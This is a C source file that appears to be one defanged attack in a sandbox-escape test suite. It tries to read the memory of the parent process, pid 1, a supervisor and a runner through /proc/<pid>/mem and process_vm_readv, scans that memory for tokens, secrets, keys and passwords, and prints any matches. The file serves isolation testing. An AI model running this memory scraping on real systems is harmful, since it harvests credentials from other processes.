/* proc_ppid_mem: see attack.toml for the technique. Defanged: bounded loops, reads and harmless markers only. */
#define _GNU_SOURCE
#pragma GCC diagnostic ignored "-Wformat-truncation" /* truncated paths are fine here */
#include <stdio.h>
#include <stdlib.h>
#include <stdarg.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <dirent.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/syscall.h>

/* ---- shared preamble (copied into each attack: one source file per attack) ---- */
static const char *NONCE = "no-nonce";
static long out_budget = 40000; /* file contents printed, at most */

/* stdout goes through a byte cap (56 KB, reports up to 64 KB) so the run never hits the 64K output limit */
static long out_total;
static ssize_t cap_write(void *c, const char *buf, size_t n)
{
    (void)c;
    int is_report = memmem(buf, n, "GAUNTLET-REPORT", 15) != NULL;
    if (out_total + (long)n <= 56000 || (is_report && out_total + (long)n <= 64000)) {
        size_t off = 0;
        while (off < n) { ssize_t w = write(1, buf + off, n - off); if (w <= 0) break; off += w; }
        out_total += n;
    }
    return n;
}
__attribute__((constructor)) static void cap_stdout(void)
{
    cookie_io_functions_t io = {0, cap_write, 0, 0};
    FILE *f = fopencookie(NULL, "w", io);
    if (f) { setvbuf(f, NULL, _IOLBF, 0); stdout = f; }
}

__attribute__((unused)) static void report(int escaped, const char *fmt, ...)
{
    va_list ap;
    fflush(stdout);
    printf("GAUNTLET-REPORT %s %s ", NONCE, escaped ? "escaped" : "denied");
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    printf("\n");
    fflush(stdout);
}

/* Print up to max bytes of buf, non-printables as '.', within the global output budget. */
__attribute__((unused)) static void show(const char *buf, long n, long max)
{
    if (n > max) n = max;
    if (n > out_budget) n = out_budget;
    if (n < 0) n = 0;
    out_budget -= n;
    for (long i = 0; i < n; i++) {
        unsigned char c = (unsigned char)buf[i];
        putchar((c >= 32 && c < 127) || c == '\n' ? c : '.');
    }
    putchar('\n');
    fflush(stdout);
}

/* Open and read a path; print what came back. Returns bytes read, or -errno. */
__attribute__((unused)) static long dump_path_at(int dirfd, const char *path, long max)
{
    int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) {
        int e = errno;
        printf("open %s: %s\n", path, strerror(e));
        return -e;
    }
    char buf[4096];
    long n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n < 0) {
        printf("read %s: %s\n", path, strerror(e));
        return -e;
    }
    printf("READ %s (%ld bytes): ", path, n);
    show(buf, n, max);
    return n;
}
__attribute__((unused)) static long dump_path(const char *path, long max) { return dump_path_at(AT_FDCWD, path, max); }
/* ---- end of preamble ---- */

/* F11: read another process's memory through /proc/<pid>/mem (and process_vm_readv) for the parent,
 * pid 1, the supervisor and the runner. Readable regions from /proc/<pid>/maps are scanned (bounded)
 * for secret-looking strings (TOKEN, SECRET, KEY=, PASS) which are printed. Opening for writing is only
 * probed: nothing is ever written into another process. */
#include <sys/uio.h>
static int hits;
static long scanned;
static void scan(const char *buf, long n)
{
    const char *keys[] = {"TOKEN", "SECRET", "CANARY", "KEY=", "PASSWORD", "gauntlet"};
    for (unsigned k = 0; k < sizeof keys / sizeof *keys; k++) {
        const char *p = buf; long left = n;
        int shown = 0;
        while (left > 0 && shown < 4) {
            const char *m = memmem(p, left, keys[k], strlen(keys[k]));
            if (!m) break;
            long off = m - buf; long start = off > 40 ? off - 40 : 0;
            long len = n - start < 160 ? n - start : 160;
            printf("MATCH %s: ", keys[k]); show(buf + start, len, 160);
            shown++; hits++;
            left -= (m - p) + 1; p = m + 1;
        }
    }
}
static void mem_of(const char *pid)
{
    char p[300]; snprintf(p, sizeof p, "/proc/%s/mem", pid);
    int w = open(p, O_WRONLY);
    if (w >= 0) { printf("OPENED %s for writing (nothing written)\n", p); report(1, "open-other-mem-for-write-%s", pid); close(w); }
    else printf("open %s O_WRONLY: %s\n", p, strerror(errno));
    int fd = open(p, O_RDONLY);
    if (fd < 0) printf("open %s: %s\n", p, strerror(errno));
    snprintf(p, sizeof p, "/proc/%s/maps", pid);
    FILE *m = fopen(p, "r");
    if (!m) { printf("open %s: %s\n", p, strerror(errno)); if (fd >= 0) close(fd); return; }
    char line[512]; int regions = 0;
    static char buf[1 << 20];
    while (fgets(line, sizeof line, m) && regions < 64 && scanned < (48L << 20)) {
        unsigned long a, b; char perm[8];
        if (sscanf(line, "%lx-%lx %7s", &a, &b, perm) != 3 || perm[0] != 'r') continue;
        regions++;
        for (unsigned long at = a; at < b && scanned < (48L << 20); at += sizeof buf) {
            long want = b - at < sizeof buf ? b - at : sizeof buf, n = -1;
            if (fd >= 0) n = pread(fd, buf, want, at);
            if (n <= 0) {
                struct iovec l = {buf, want}, r = {(void *)at, want};
                n = syscall(SYS_process_vm_readv, atoi(pid), &l, 1, &r, 1, 0);
                if (n > 0) printf("process_vm_readv %s worked at %lx\n", pid, at);
            }
            if (n <= 0) { if (regions < 3) printf("read %s mem at %lx: %s\n", pid, at, strerror(errno)); break; }
            scanned += n;
            scan(buf, n);
        }
    }
    fclose(m);
    if (fd >= 0) close(fd);
}
int main(int argc, char **argv)
{
    const char *sup = argc > 1 ? argv[1] : "0";
    const char *runner = argc > 2 ? argv[2] : "0";
    if (argc > 3) NONCE = argv[3];
    char pp[32]; snprintf(pp, sizeof pp, "%d", getppid());
    printf("ppid=%s\n", pp);
    mem_of(pp);
    mem_of("1");
    mem_of(sup);
    mem_of(runner);
    /* our own memory is fair game and must work (sanity) */
    int s = open("/proc/self/mem", O_RDWR); printf("own /proc/self/mem O_RDWR: %s\n", s >= 0 ? "ok" : strerror(errno)); if (s >= 0) close(s);
    printf("bytes scanned in other processes: %ld\n", scanned);
    report(hits > 0 || scanned > 0, "read-other-process-memory(%ld bytes)", scanned);
    usleep(400000);
    return 0;
}
